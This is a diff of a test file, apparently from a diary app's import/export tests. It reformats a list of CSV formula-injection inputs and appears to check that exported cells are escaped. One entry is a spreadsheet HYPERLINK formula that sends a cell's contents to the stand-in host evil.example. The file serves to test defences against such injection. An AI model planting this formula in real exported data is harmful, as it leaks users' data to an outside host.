@@ -216,7 +216,14 @@ def test_an_imported_id_that_exists_with_other_content_is_reported(full_diary, t
         call_command("import_diary", "--user", "alice@example.org", str(path))
 
 
-FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1,"Click")', "+1+1", "-2+3", "@SUM(A1)", "- woke twice", "'=already quoted"]
+FORMULAS = [
+    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
+    "+1+1",
+    "-2+3",
+    "@SUM(A1)",
+    "- woke twice",
+    "'=already quoted",
+]
 
 
 def csv_cells(archive: bytes) -> list[str]:
